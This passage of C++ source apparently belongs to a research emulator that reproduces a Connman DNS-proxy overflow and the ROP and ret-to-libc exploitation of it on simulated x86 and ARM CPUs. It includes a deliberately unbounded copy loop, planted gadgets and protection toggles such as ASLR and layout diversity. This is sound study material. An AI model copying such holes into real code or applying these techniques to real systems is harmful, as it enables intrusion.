/// frame is [esp]=ret, [esp+4]=arg0...; on VARM args are r0..r3.
util::Result<std::uint32_t> Arg(Cpu& cpu, int index) {
  if (IsVX86(cpu)) {
    return cpu.space().ReadU32(cpu.sp() + 4 + 4 * static_cast<std::uint32_t>(index));
  }
  if (index > 3) return util::InvalidArgument("varm register args only");
  return cpu.reg(static_cast<std::uint8_t>(index));
}

/// Performs the function-return sequence: VX86 pops the return address;
/// VARM branches to lr. `ret_value` lands in eax / r0.
util::Status Return(Cpu& cpu, std::uint32_t ret_value) {
  if (IsVX86(cpu)) {
    CONNLAB_ASSIGN_OR_RETURN(std::uint32_t ret, cpu.Pop());
    cpu.set_reg(isa::kEAX, ret_value);
    cpu.set_pc(ret);
  } else {
    cpu.set_reg(isa::kR0, ret_value);
    cpu.set_pc(cpu.reg(isa::kLR));
  }
  return util::OkStatus();
}

/// PATH-style resolution for execlp: a bare name resolves under /bin.
std::string ResolveExeclpFile(const std::string& file) {
  if (file.find('/') != std::string::npos) return file;
  return "/bin/" + file;
}

util::Status LibcSystem(Cpu& cpu) {
  CONNLAB_ASSIGN_OR_RETURN(std::uint32_t cmd_ptr, Arg(cpu, 0));
  CONNLAB_ASSIGN_OR_RETURN(std::string cmd, cpu.space().ReadCString(cmd_ptr));
  // system(cmd) runs "/bin/sh -c cmd" — with Connman's privileges, a root
  // shell executing attacker input. That is the success condition.
  cpu.PushEvent(EventKind::kShellSpawned,
                "system(\"" + cmd + "\") -> /bin/sh -c as uid=0 (root)");
  cpu.RequestStop(StopReason::kShellSpawned, "system(): " + cmd);
  return util::OkStatus();
}

util::Status LibcExit(Cpu& cpu) {
  CONNLAB_ASSIGN_OR_RETURN(std::uint32_t code, Arg(cpu, 0));
  cpu.SetExitCode(code);
  cpu.PushEvent(EventKind::kExit, "exit(" + std::to_string(code) + ")");
  cpu.RequestStop(StopReason::kExited, "libc exit");
  return util::OkStatus();
}

util::Status LibcMemcpy(Cpu& cpu) {
  CONNLAB_ASSIGN_OR_RETURN(std::uint32_t dest, Arg(cpu, 0));
  CONNLAB_ASSIGN_OR_RETURN(std::uint32_t src, Arg(cpu, 1));
  CONNLAB_ASSIGN_OR_RETURN(std::uint32_t len, Arg(cpu, 2));
  if (len > 0x100000) return util::InvalidArgument("memcpy length implausible");
  CONNLAB_ASSIGN_OR_RETURN(util::Bytes data, cpu.space().ReadBytes(src, len));
  CONNLAB_RETURN_IF_ERROR(cpu.space().WriteBytes(dest, data));
  if (IsVX86(cpu)) {
    // This build's memcpy epilogue is `add esp, 0xC; pop ebp; ret` on a
    // frameless entry: it reloads ebp from the slot just past the three
    // arguments. A ROP frame therefore must provide a readable word there —
    // the paper's "4 bytes of random values" (§III-C1).
    CONNLAB_ASSIGN_OR_RETURN(std::uint32_t ebp_slot,
                             cpu.space().ReadU32(cpu.sp() + 16));
    cpu.set_reg(isa::kEBP, ebp_slot);
  }
  return Return(cpu, dest);
}

util::Status LibcExeclp(Cpu& cpu) {
  CONNLAB_ASSIGN_OR_RETURN(std::uint32_t file_ptr, Arg(cpu, 0));
  CONNLAB_ASSIGN_OR_RETURN(std::string file, cpu.space().ReadCString(file_ptr));

  // execlp is variadic and requires a terminating NULL in the argument
  // list; without one the scan walks into unmapped or garbage memory.
  bool terminated = false;
  if (IsVX86(cpu)) {
    for (int i = 1; i <= 8 && !terminated; ++i) {
      CONNLAB_ASSIGN_OR_RETURN(std::uint32_t arg, Arg(cpu, i));
      terminated = arg == 0;
    }
  } else {
    for (int i = 1; i <= 3 && !terminated; ++i) {
      terminated = cpu.reg(static_cast<std::uint8_t>(i)) == 0;
    }
  }
  if (!terminated) {
    return util::PermissionDenied("execlp: argument list not NULL-terminated");
  }

  const std::string resolved = ResolveExeclpFile(file);
  if (vm::IsShellPath(resolved)) {
    cpu.PushEvent(EventKind::kShellSpawned,
                  "execlp(\"" + file + "\") -> " + resolved + " as uid=0 (root)");
    cpu.RequestStop(StopReason::kShellSpawned, "execlp: " + resolved);
  } else {
    cpu.PushEvent(EventKind::kProcessExec, "execlp(\"" + file + "\")");
    cpu.RequestStop(StopReason::kProcessExec, "execlp: " + resolved);
  }
  return util::OkStatus();
}

util::Status LibcStrcpyChk(Cpu& cpu) {
  CONNLAB_ASSIGN_OR_RETURN(std::uint32_t dest, Arg(cpu, 0));
  CONNLAB_ASSIGN_OR_RETURN(std::uint32_t src, Arg(cpu, 1));
  CONNLAB_ASSIGN_OR_RETURN(std::uint32_t dest_len, Arg(cpu, 2));
  CONNLAB_ASSIGN_OR_RETURN(std::string s, cpu.space().ReadCString(src));
  if (s.size() + 1 > dest_len) {
    cpu.PushEvent(EventKind::kCanaryAbort, "__strcpy_chk: overflow detected");
    cpu.RequestStop(StopReason::kAbort, "__strcpy_chk failed");
    return util::OkStatus();
  }
  util::Bytes bytes(s.begin(), s.end());
  bytes.push_back(0);
  CONNLAB_RETURN_IF_ERROR(cpu.space().WriteBytes(dest, bytes));
  return Return(cpu, dest);
}

}  // namespace

util::Status LoadLibcImage(System& sys) {
  const Layout& l = sys.layout;
  CONNLAB_RETURN_IF_ERROR(
      sys.space.Map("libc", l.libc_base, l.libc_size, mem::kPermRX));
  sys.sections.push_back({"libc", l.libc_base, l.libc_size});

  // Under DAEDALUS-style stochastic diversity the libc image itself is
  // re-laid-out per boot: the five entry points are permuted across their
  // 0x100-wide slots and jittered inside them (word-aligned), and the
  // "/bin/sh" string moves too. A ret-to-libc chain built from another
  // boot's addresses therefore lands in dead libc bytes instead of
  // system() — the firmware-wide half of the diversity model.
  std::uint32_t off_system = kLibcSystemOff;
  std::uint32_t off_exit = kLibcExitOff;
  std::uint32_t off_memcpy = kLibcMemcpyOff;
  std::uint32_t off_execlp = kLibcExeclpOff;
  std::uint32_t off_chk = kLibcStrcpyChkOff;
  std::uint32_t off_binsh = kLibcBinShOff;
  if (sys.prot.stochastic_diversity) {
    util::Rng layout_rng((sys.boot_seed + 1) * 0xC2B2AE3D27D4EB4FULL);
    std::uint32_t slots[] = {kLibcSystemOff, kLibcExitOff, kLibcMemcpyOff,
                             kLibcExeclpOff, kLibcStrcpyChkOff};
    for (std::size_t i = 5; i > 1; --i) {
      std::swap(slots[i - 1], slots[layout_rng.NextBelow(i)]);
    }
    std::uint32_t* offs[] = {&off_system, &off_exit, &off_memcpy, &off_execlp,
                             &off_chk};
    for (std::size_t i = 0; i < 5; ++i) {
      // Jitter strictly below the 0x100 slot width: no collisions possible.
      *offs[i] = slots[i] +
                 static_cast<std::uint32_t>(layout_rng.NextBelow(0x30)) * 4;
    }
    off_binsh = 0x1000 +
                static_cast<std::uint32_t>(layout_rng.NextBelow(0x300)) * 4;
  }

  struct Entry {
    const char* name;
    std::uint32_t offset;
    Cpu::HostFn fn;
  };
  const Entry entries[] = {
      {"libc.system", off_system, LibcSystem},
      {"libc.exit", off_exit, LibcExit},
      {"libc.memcpy", off_memcpy, LibcMemcpy},
      {"libc.execlp", off_execlp, LibcExeclp},
      {"libc.__strcpy_chk", off_chk, LibcStrcpyChk},
  };
  for (const Entry& e : entries) {
    const mem::GuestAddr addr = l.libc_base + e.offset;
    CONNLAB_RETURN_IF_ERROR(sys.symbols.Define(e.name, addr));
    CONNLAB_RETURN_IF_ERROR(sys.cpu->RegisterHostFn(addr, e.name, e.fn));
  }
  CONNLAB_RETURN_IF_ERROR(sys.symbols.Define("libc.base", l.libc_base));

  // "/bin/sh" lives at a fixed offset inside libc: static without ASLR,
  // moving with the base under ASLR.
  const mem::GuestAddr binsh = l.libc_base + off_binsh;
  CONNLAB_RETURN_IF_ERROR(sys.symbols.Define("libc.str.bin_sh", binsh));
  util::Bytes str = util::BytesOf("/bin/sh");
  str.push_back(0);
  CONNLAB_RETURN_IF_ERROR(sys.space.DebugWrite(binsh, str));

  // Resolve the main image's GOT against the just-loaded libc.
  CONNLAB_ASSIGN_OR_RETURN(mem::GuestAddr got_memcpy, sys.Sym("got.memcpy"));
  CONNLAB_ASSIGN_OR_RETURN(mem::GuestAddr got_execlp, sys.Sym("got.execlp"));
  CONNLAB_ASSIGN_OR_RETURN(mem::GuestAddr got_chk, sys.Sym("got.__strcpy_chk"));
  CONNLAB_RETURN_IF_ERROR(
      sys.space.WriteU32(got_memcpy, l.libc_base + off_memcpy));
  CONNLAB_RETURN_IF_ERROR(
      sys.space.WriteU32(got_execlp, l.libc_base + off_execlp));
  CONNLAB_RETURN_IF_ERROR(
      sys.space.WriteU32(got_chk, l.libc_base + off_chk));
  return util::OkStatus();
}

}  // namespace connlab::loader
