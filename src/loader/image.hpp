// Guest binary metadata: the symbol table and PLT/GOT bookkeeping shared by
// the image builders, the gadget finder, the debugger and the exploit
// generator.
//
// Symbols follow a dotted convention:
//   "connman.parse_response"   function entry in the main image
//   "plt.memcpy" / "got.memcpy" PLT stub / GOT slot in the main image
//   "libc.system", "libc.str.bin_sh"  libc functions and data
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "src/mem/segment.hpp"
#include "src/util/status.hpp"

namespace connlab::loader {

class SymbolTable {
 public:
  util::Status Define(const std::string& name, mem::GuestAddr addr);
  /// Bulk import (e.g. an Assembler's label map), with an optional prefix.
  util::Status Import(const std::map<std::string, mem::GuestAddr>& labels,
                      const std::string& prefix = "");

  [[nodiscard]] util::Result<mem::GuestAddr> Lookup(const std::string& name) const;
  [[nodiscard]] bool Has(const std::string& name) const noexcept {
    return symbols_.contains(name);
  }
  /// Reverse lookup: the symbol at or immediately below `addr`, rendered as
  /// "name" or "name+0x12" — what a debugger shows in a backtrace.
  [[nodiscard]] std::string Describe(mem::GuestAddr addr) const;

  [[nodiscard]] const std::map<std::string, mem::GuestAddr>& all() const noexcept {
    return symbols_;
  }

 private:
  std::map<std::string, mem::GuestAddr> symbols_;
};

/// One loaded section's bounds, for tools that scan specific sections
/// (the gadget finder scans .text, memstr scans .text+.rodata).
struct SectionInfo {
  std::string name;
  mem::GuestAddr base = 0;
  std::uint32_t size = 0;
};

}  // namespace connlab::loader
