#include "src/loader/image.hpp"

#include <cstdio>

namespace connlab::loader {

util::Status SymbolTable::Define(const std::string& name, mem::GuestAddr addr) {
  auto [it, inserted] = symbols_.emplace(name, addr);
  (void)it;
  if (!inserted) return util::AlreadyExists("symbol redefined: " + name);
  return util::OkStatus();
}

util::Status SymbolTable::Import(
    const std::map<std::string, mem::GuestAddr>& labels,
    const std::string& prefix) {
  for (const auto& [name, addr] : labels) {
    CONNLAB_RETURN_IF_ERROR(Define(prefix + name, addr));
  }
  return util::OkStatus();
}

util::Result<mem::GuestAddr> SymbolTable::Lookup(const std::string& name) const {
  auto it = symbols_.find(name);
  if (it == symbols_.end()) return util::NotFound("no symbol: " + name);
  return it->second;
}

std::string SymbolTable::Describe(mem::GuestAddr addr) const {
  const std::string* best_name = nullptr;
  mem::GuestAddr best_addr = 0;
  for (const auto& [name, sym_addr] : symbols_) {
    if (sym_addr <= addr && (best_name == nullptr || sym_addr > best_addr)) {
      best_name = &name;
      best_addr = sym_addr;
    }
  }
  if (best_name == nullptr) {
    char buf[16];
    std::snprintf(buf, sizeof(buf), "0x%08x", addr);
    return buf;
  }
  if (best_addr == addr) return *best_name;
  char buf[16];
  std::snprintf(buf, sizeof(buf), "+0x%x", addr - best_addr);
  return *best_name + buf;
}

}  // namespace connlab::loader
