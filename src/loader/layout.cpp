#include "src/loader/layout.hpp"

namespace connlab::loader {

std::string ProtectionConfig::ToString() const {
  std::string out;
  out += wx ? "W^X" : "no-W^X";
  out += aslr ? "+ASLR" : "";
  out += canary ? "+canary" : "";
  out += cfi ? "+CFI" : "";
  out += diversity ? "+ASD" : "";
  out += stochastic_diversity ? "+SSD" : "";
  out += heap_integrity ? "+heapchk" : "";
  if (!wx && !aslr && !canary && !cfi && !diversity && !stochastic_diversity &&
      !heap_integrity) {
    out = "none";
  }
  return out;
}

Layout DefaultLayout(isa::Arch arch) {
  Layout l;
  l.arch = arch;
  if (arch == isa::Arch::kVX86) {
    // Classic 32-bit Linux x86 shape: ET_EXEC image at 0x08048000,
    // libc high, stack just under 0xC0000000.
    l.text_base = 0x08048000;
    l.text_size = 0x00004000;
    l.rodata_base = 0x0804C000;
    l.rodata_size = 0x00001000;
    l.got_base = 0x0804F000;
    l.got_size = 0x00001000;
    l.bss_base = 0x08050000;
    l.bss_size = 0x00001000;
    l.scratch_base = 0x08052000;
    l.scratch_size = 0x00001000;
    l.heap_base = 0x09000000;
    l.heap_size = 0x00010000;
    l.libc_base = 0xB7400000;
    l.libc_size = 0x00004000;
    l.stack_top = 0xBFFFE000;
    l.stack_size = 0x00020000;
  } else {
    // Raspberry-Pi-flavoured ARM32 shape: image at 0x10000, libc around
    // 0x76d00000, stack under 0x7f000000 (cf. the addresses in the paper's
    // Listings 2 and 5).
    l.text_base = 0x00010000;
    l.text_size = 0x00004000;
    l.rodata_base = 0x0001C000;
    l.rodata_size = 0x00001000;
    l.got_base = 0x00020000;
    l.got_size = 0x00001000;
    l.bss_base = 0x000B9000;
    l.bss_size = 0x00001000;
    l.scratch_base = 0x000BB000;
    l.scratch_size = 0x00001000;
    l.heap_base = 0x00100000;
    l.heap_size = 0x00010000;
    l.libc_base = 0x76D00000;
    l.libc_size = 0x00004000;
    l.stack_top = 0x7EFFE000;
    l.stack_size = 0x00020000;
  }
  return l;
}

Layout RandomizedLayout(isa::Arch arch, const ProtectionConfig& prot,
                        util::Rng& rng) {
  Layout l = DefaultLayout(arch);
  if (!prot.aslr) return l;

  const int bits = prot.aslr_entropy_bits < 1    ? 1
                   : prot.aslr_entropy_bits > 16 ? 16
                                                 : prot.aslr_entropy_bits;
  const std::uint64_t span = 1ULL << bits;

  // Slide libc *down* from its default base so it never collides with the
  // stack region; slide the stack down likewise. Page granularity, matching
  // mmap randomisation.
  const std::uint32_t libc_slide =
      static_cast<std::uint32_t>(rng.NextBelow(span)) * 0x1000u;
  const std::uint32_t stack_slide =
      static_cast<std::uint32_t>(rng.NextBelow(span)) * 0x1000u;
  l.libc_base -= libc_slide;
  l.stack_top -= stack_slide;
  return l;
}

}  // namespace connlab::loader
