// Builds and loads the simulated libc for one booted System.
//
// libc functions are host-implemented (registered on the CPU at their guest
// addresses) but callable from interpreted guest code through the usual
// conventions: VX86 finds its arguments on the stack past the pushed return
// address (which is why the paper's ret-to-libc chain is just
// [&system][&exit][&"/bin/sh"]), VARM takes r0-r3 and returns via lr (which
// is why a plain ret-to-libc is impossible there and gadgets are needed).
//
// The segment also carries the "/bin/sh" string at a fixed *offset*; its
// absolute address moves with the libc base under ASLR — exactly the
// property that breaks the W^X-level exploits at the ASLR level.
#pragma once

#include "src/loader/boot.hpp"

namespace connlab::loader {

/// Offsets of the public libc entry points within the libc segment.
inline constexpr std::uint32_t kLibcSystemOff = 0x100;
inline constexpr std::uint32_t kLibcExitOff = 0x200;
inline constexpr std::uint32_t kLibcMemcpyOff = 0x300;
inline constexpr std::uint32_t kLibcExeclpOff = 0x400;
inline constexpr std::uint32_t kLibcStrcpyChkOff = 0x500;
inline constexpr std::uint32_t kLibcBinShOff = 0x13E4;

/// Maps libc at sys.layout.libc_base, registers the host functions,
/// defines the libc.* symbols, and resolves the main image's GOT slots.
util::Status LoadLibcImage(System& sys);

}  // namespace connlab::loader
