#include "src/loader/connman_image.hpp"

#include <functional>
#include <string>
#include <vector>

#include "src/isa/assembler.hpp"
#include "src/util/rng.hpp"

namespace connlab::loader {

namespace {

using isa::Arch;
using isa::Assembler;

// The canonical image is byte-for-byte deterministic; decorative code is
// drawn from a fixed-seed stream, never from the per-boot RNG. Under the
// §IV compile-time-diversity model, `diversity_build` perturbs the block
// order (and, through the shared stream, the filler instructions), so two
// builds expose different gadget/PLT addresses.
constexpr std::uint64_t kImageSeed = 0x434f4e4e4d414e21ULL;  // "CONNMAN!"

/// Emits `blocks` in canonical order, or permuted when a diversity model is
/// active (Fisher-Yates). Compile-time diversity keys the permutation on the
/// build id alone; stochastic (DAEDALUS-style) diversity folds the boot seed
/// in and additionally pads random inter-function gaps via `pad_gap`, so two
/// boots of the same build expose different gadget/PLT addresses.
void EmitBlocks(std::vector<std::function<void()>> blocks,
                const ProtectionConfig& prot, std::uint64_t boot_seed,
                const std::function<void(util::Rng&)>& pad_gap) {
  const bool shuffled = prot.diversity || prot.stochastic_diversity;
  if (!shuffled) {
    for (auto& block : blocks) block();
    return;
  }
  std::uint64_t key = kImageSeed ^ prot.diversity_build;
  if (prot.stochastic_diversity) {
    key ^= (boot_seed + 1) * 0x9E3779B97F4A7C15ULL;  // never the canonical key
  }
  util::Rng layout_rng(key);
  for (std::size_t i = blocks.size(); i > 1; --i) {
    const std::size_t j = static_cast<std::size_t>(layout_rng.NextBelow(i));
    std::swap(blocks[i - 1], blocks[j]);
  }
  for (auto& block : blocks) {
    if (prot.stochastic_diversity) pad_gap(layout_rng);
    block();
  }
}

// ---------------------------------------------------------------- VX86 ----

void EmitDecorativeFnVX86(Assembler& a, util::Rng& rng, int index) {
  a.Label("fn.decor_" + std::to_string(index));
  isa::vx86::EncPushReg(a.w(), isa::kEBP);
  isa::vx86::EncMovReg(a.w(), isa::kEBP, isa::kESP);
  const int body = 2 + static_cast<int>(rng.NextBelow(6));
  for (int i = 0; i < body; ++i) {
    const std::uint8_t reg =
        static_cast<std::uint8_t>(rng.NextBelow(4));  // eax..ebx only
    switch (rng.NextBelow(4)) {
      case 0:
        isa::vx86::EncMovImm(a.w(), reg, rng.NextU32() & 0xFFFF);
        break;
      case 1:
        isa::vx86::EncAddImm(a.w(), reg, rng.NextU32() & 0xFF);
        break;
      case 2:
        isa::vx86::EncXorReg(a.w(), reg, reg);
        break;
      default:
        isa::vx86::EncMovReg(a.w(), reg,
                             static_cast<std::uint8_t>(rng.NextBelow(4)));
        break;
    }
  }
  isa::vx86::EncPopReg(a.w(), isa::kEBP);
  isa::vx86::EncRet(a.w());
}

util::Result<util::Bytes> BuildTextVX86(const Layout& layout, Assembler& a,
                                        const ProtectionConfig& prot,
                                        std::uint64_t boot_seed) {
  namespace x = isa::vx86;
  util::Rng rng(kImageSeed);

  // Process entry. Decorative: the DnsProxy drives the interesting paths.
  a.Label("connman._start");
  a.CallLabel("connman.main");
  x::EncHlt(a.w());

  a.Label("connman.main");
  x::EncPushReg(a.w(), isa::kEBP);
  x::EncMovReg(a.w(), isa::kEBP, isa::kESP);
  a.CallLabel("connman.forward_dns_reply");
  x::EncPopReg(a.w(), isa::kEBP);
  x::EncRet(a.w());

  // The benign return target of parse_response: a host fn is registered at
  // this address which stops the CPU cleanly ("response processed").
  a.Label("connman.resume_ok");
  x::EncHlt(a.w());

  // Parser entry points (hosted natively by connman::DnsProxy; the labels
  // anchor symbols, breakpoints and backtraces).
  a.Label("connman.forward_dns_reply");
  x::EncPushReg(a.w(), isa::kEBP);
  x::EncMovReg(a.w(), isa::kEBP, isa::kESP);
  a.CallLabel("connman.parse_response");
  x::EncPopReg(a.w(), isa::kEBP);
  x::EncRet(a.w());

  a.Label("connman.parse_response");
  x::EncHlt(a.w());
  a.Label("connman.get_name");
  x::EncHlt(a.w());
  a.Label("connman.parse_rr");
  x::EncHlt(a.w());

  // The inlined copy loop of get_name (the vulnerable memcpy of paper
  // Listing 1), as real guest code: copy_label(dst, src, n) — no bound
  // check anywhere in sight. The DnsProxy calls this through the CPU, so
  // the overflow writes (and the fault that ends a DoS) are executed
  // instruction by instruction.
  a.Label("connman.copy_label");
  x::EncLoad(a.w(), isa::kEDI, isa::kESP, 4);    // dst
  x::EncLoad(a.w(), isa::kESI, isa::kESP, 8);    // src
  x::EncLoad(a.w(), isa::kECX, isa::kESP, 12);   // n
  a.Label("connman.copy_label.loop");
  x::EncCmpImm(a.w(), isa::kECX, 0);
  a.JzLabel("connman.copy_label.done");
  x::EncLoadByte(a.w(), isa::kEAX, isa::kESI, 0);
  x::EncStoreByte(a.w(), isa::kEAX, isa::kEDI, 0);
  x::EncAddImm(a.w(), isa::kEDI, 1);
  x::EncAddImm(a.w(), isa::kESI, 1);
  x::EncSubImm(a.w(), isa::kECX, 1);
  a.JmpLabel("connman.copy_label.loop");
  a.Label("connman.copy_label.done");
  x::EncRet(a.w());
  a.Label("connman.copy_done");
  x::EncHlt(a.w());

  // Everything below is position-independent with respect to the exploits'
  // knowledge: under the diversity model these blocks are permuted per
  // build, moving the PLT, the gadgets and the filler around.
  std::vector<std::function<void()>> blocks;

  // PLT: one indirect jump per imported function, through its GOT slot.
  // There is intentionally no strcpy here (Connman only has __strcpy_chk,
  // which cannot be used to build strings — hence the memcpy chain).
  const std::uint32_t got = layout.got_base;
  blocks.emplace_back([&a, got] {
    a.Label("plt.memcpy");
    x::EncJmpInd(a.w(), got + 0);
    a.Label("plt.execlp");
    x::EncJmpInd(a.w(), got + 4);
    a.Label("plt.__strcpy_chk");
    x::EncJmpInd(a.w(), got + 8);
  });

  // Decorative functions, so the paper's gadgets sit in the middle of
  // plausible code rather than at the start of .text.
  for (int i = 0; i < 44; ++i) {
    blocks.emplace_back([&a, &rng, i] { EmitDecorativeFnVX86(a, rng, i); });
  }

  // The gadget the x86 ROP chain needs after each memcpy@plt call: four
  // pops (three arguments + one garbage word) then ret. (§III-C1)
  blocks.emplace_back([&a] {
    a.Label("gadget.pppr");
    x::EncPopReg(a.w(), isa::kESI);
    x::EncPopReg(a.w(), isa::kEDI);
    x::EncPopReg(a.w(), isa::kEBX);
    x::EncPopReg(a.w(), isa::kEBP);
    x::EncRet(a.w());
  });

  // Smaller pops, as found in ordinary epilogues.
  blocks.emplace_back([&a] {
    a.Label("gadget.pop_ret");
    x::EncPopReg(a.w(), isa::kEBX);
    x::EncRet(a.w());
    a.Label("gadget.pop_pop_ret");
    x::EncPopReg(a.w(), isa::kECX);
    x::EncPopReg(a.w(), isa::kEDX);
    x::EncRet(a.w());
  });

  // Gap filler is hlt bytes — the established inter-function padding, and
  // inert if a wild jump ever lands in one.
  EmitBlocks(std::move(blocks), prot, boot_seed, [&a](util::Rng& layout_rng) {
    const std::size_t pad = layout_rng.NextBelow(13);
    for (std::size_t i = 0; i < pad; ++i) x::EncHlt(a.w());
  });
  return a.Finish();
}

// ---------------------------------------------------------------- VARM ----

void EmitDecorativeFnVARM(Assembler& a, util::Rng& rng, int index) {
  namespace v = isa::varm;
  a.Label("fn.decor_" + std::to_string(index));
  v::EncPush(a.w(), v::Mask({isa::kR4, isa::kR5, isa::kLR}));
  const int body = 2 + static_cast<int>(rng.NextBelow(6));
  for (int i = 0; i < body; ++i) {
    const std::uint8_t reg = static_cast<std::uint8_t>(rng.NextBelow(4));
    switch (rng.NextBelow(4)) {
      case 0:
        v::EncMovW(a.w(), reg, static_cast<std::uint16_t>(rng.NextU32()));
        break;
      case 1:
        v::EncAddImm(a.w(), reg, reg,
                     static_cast<std::uint8_t>(rng.NextBelow(200)));
        break;
      case 2:
        v::EncMvn(a.w(), reg, static_cast<std::uint8_t>(rng.NextBelow(4)));
        break;
      default:
        v::EncMovReg(a.w(), reg,
                     static_cast<std::uint8_t>(4 + rng.NextBelow(2)));
        break;
    }
  }
  v::EncPop(a.w(), v::Mask({isa::kR4, isa::kR5, isa::kPC}));
}

util::Result<util::Bytes> BuildTextVARM(const Layout& layout, Assembler& a,
                                        const ProtectionConfig& prot,
                                        std::uint64_t boot_seed) {
  namespace v = isa::varm;
  util::Rng rng(kImageSeed ^ 0xA);

  a.Label("connman._start");
  a.BlLabel("connman.main");
  v::EncHlt(a.w());

  a.Label("connman.main");
  v::EncPush(a.w(), v::Mask({isa::kR4, isa::kLR}));
  a.BlLabel("connman.forward_dns_reply");
  v::EncPop(a.w(), v::Mask({isa::kR4, isa::kPC}));

  a.Label("connman.resume_ok");
  v::EncHlt(a.w());

  a.Label("connman.forward_dns_reply");
  v::EncPush(a.w(), v::Mask({isa::kR4, isa::kLR}));
  a.BlLabel("connman.parse_response");
  v::EncPop(a.w(), v::Mask({isa::kR4, isa::kPC}));

  a.Label("connman.parse_response");
  v::EncHlt(a.w());
  a.Label("connman.get_name");
  v::EncHlt(a.w());
  a.Label("connman.parse_rr");
  v::EncHlt(a.w());

  // get_name's inlined copy loop as guest code: copy_label(r0=dst, r1=src,
  // r2=n), returning via lr. No bound check — this IS the CVE.
  a.Label("connman.copy_label");
  a.Label("connman.copy_label.loop");
  v::EncCmpImm(a.w(), isa::kR2, 0);
  a.BeqLabel("connman.copy_label.done");
  v::EncLdrb(a.w(), isa::kR3, isa::kR1, 0);
  v::EncStrb(a.w(), isa::kR3, isa::kR0, 0);
  v::EncAddImm(a.w(), isa::kR0, isa::kR0, 1);
  v::EncAddImm(a.w(), isa::kR1, isa::kR1, 1);
  v::EncSubImm(a.w(), isa::kR2, isa::kR2, 1);
  a.BLabel("connman.copy_label.loop");
  a.Label("connman.copy_label.done");
  v::EncBx(a.w(), isa::kLR);
  a.Label("connman.copy_done");
  v::EncHlt(a.w());

  std::vector<std::function<void()>> blocks;

  // PLT entries: load the GOT slot address from a literal, load the slot,
  // branch. 16 bytes each.
  blocks.emplace_back([&a, &layout] {
    const auto emit_plt = [&a](const std::string& name, std::uint32_t got_slot) {
      a.Label("plt." + name);
      a.LdrLitLabel(isa::kR12, "plt.lit." + name);
      v::EncLdrInd(a.w(), isa::kR12, isa::kR12);
      v::EncBx(a.w(), isa::kR12);
      a.Label("plt.lit." + name);
      a.Word32(got_slot);
    };
    emit_plt("memcpy", layout.got_base + 0);
    emit_plt("execlp", layout.got_base + 4);
    emit_plt("__strcpy_chk", layout.got_base + 8);
  });

  for (int i = 0; i < 44; ++i) {
    blocks.emplace_back([&a, &rng, i] { EmitDecorativeFnVARM(a, rng, i); });
  }

  // The paper's register-load gadget (§III-B2, Listing 2): pops r0-r3 and
  // r5-r7 — skipping r4 — and pc. A wide epilogue of this exact shape is
  // what made the exploit viable (narrower pops trip parse_rr, see
  // connman/frame.hpp).
  blocks.emplace_back([&a] {
    a.Label("gadget.pop_regs_pc");
    v::EncPop(a.w(), v::Mask({isa::kR0, isa::kR1, isa::kR2, isa::kR3, isa::kR5,
                              isa::kR6, isa::kR7, isa::kPC}));
  });

  // The branch-link gadget for the ASLR chain (§III-C2, Listing 5): calls
  // through r3, and on return falls into `pop {r8, pc}`, which consumes the
  // chain's "offset characters for blx" word and the next gadget address.
  blocks.emplace_back([&a] {
    a.Label("gadget.blx_r3");
    v::EncBlx(a.w(), isa::kR3);
    a.Label("gadget.pop_r8_pc");
    v::EncPop(a.w(), v::Mask({isa::kR8, isa::kPC}));

    // A deliberately narrow gadget, kept for the ablation that reproduces
    // the paper's "a gadget with fewer registers results in a SIGSEV in
    // parse_rr" observation.
    a.Label("gadget.pop_r0_pc");
    v::EncPop(a.w(), v::Mask({isa::kR0, isa::kPC}));
  });

  // VARM instructions are fixed 4-byte words; gaps stay word-aligned.
  EmitBlocks(std::move(blocks), prot, boot_seed, [&a](util::Rng& layout_rng) {
    const std::size_t pad = layout_rng.NextBelow(4);
    for (std::size_t i = 0; i < pad; ++i) v::EncHlt(a.w());
  });
  return a.Finish();
}

// -------------------------------------------------------------- rodata ----

util::Result<util::Bytes> BuildRodata(Arch arch, Assembler& a) {
  // Plausible strings for a network daemon. Together they guarantee that
  // every character of "/bin/sh" exists somewhere in the non-randomised
  // image — which is all the paper's memcpy-chain needs (§III-C1 finds
  // single characters with ROPgadget --memstr).
  a.Label("rodata.banner");
  a.Asciz(arch == Arch::kVX86 ? "connman 1.34 (x86)" : "connman 1.34 (armv7)");
  a.Label("rodata.dnsproxy");
  a.Asciz("dnsproxy: bad response from server");
  a.Label("rodata.paths");
  a.Asciz("/usr/share/connman");
  a.Label("rodata.lib");
  a.Asciz("/usr/lib/connman/include");
  a.Label("rodata.busy");
  a.Asciz("busybox network shim");
  a.Label("rodata.fmt");
  a.Asciz("%s: state %d, iface %s");
  a.Label("rodata.hosts");
  a.Asciz("/etc/hosts");
  a.Label("rodata.resolv");
  a.Asciz("/etc/resolv.conf");
  return a.Finish();
}

}  // namespace

util::Status LoadConnmanImage(System& sys) {
  const Layout& l = sys.layout;
  auto& space = sys.space;

  CONNLAB_RETURN_IF_ERROR(space.Map(".text", l.text_base, l.text_size, mem::kPermRX));
  CONNLAB_RETURN_IF_ERROR(
      space.Map(".rodata", l.rodata_base, l.rodata_size, mem::kPermR));
  CONNLAB_RETURN_IF_ERROR(space.Map(".got", l.got_base, l.got_size, mem::kPermRW));
  CONNLAB_RETURN_IF_ERROR(space.Map(".bss", l.bss_base, l.bss_size, mem::kPermRW));
  CONNLAB_RETURN_IF_ERROR(
      space.Map(".scratch", l.scratch_base, l.scratch_size, mem::kPermRW));
  // Heap: rw- under W^X, rwx otherwise — same policy as the stack (the
  // "no protections" builds leave every data mapping executable).
  const mem::Perm heap_perm = sys.prot.wx ? mem::kPermRW : mem::kPermRWX;
  CONNLAB_RETURN_IF_ERROR(space.Map("heap", l.heap_base, l.heap_size, heap_perm));

  // .text
  Assembler text_asm(sys.arch, l.text_base);
  CONNLAB_ASSIGN_OR_RETURN(
      util::Bytes text,
      sys.arch == Arch::kVX86
          ? BuildTextVX86(l, text_asm, sys.prot, sys.boot_seed)
          : BuildTextVARM(l, text_asm, sys.prot, sys.boot_seed));
  if (text.size() > l.text_size) {
    return util::ResourceExhausted("generated .text exceeds the segment");
  }
  CONNLAB_RETURN_IF_ERROR(space.DebugWrite(l.text_base, text));
  CONNLAB_RETURN_IF_ERROR(sys.symbols.Import(text_asm.labels()));
  sys.sections.push_back(
      {".text", l.text_base, static_cast<std::uint32_t>(text.size())});

  // .rodata
  Assembler ro_asm(sys.arch, l.rodata_base);
  CONNLAB_ASSIGN_OR_RETURN(util::Bytes rodata, BuildRodata(sys.arch, ro_asm));
  if (rodata.size() > l.rodata_size) {
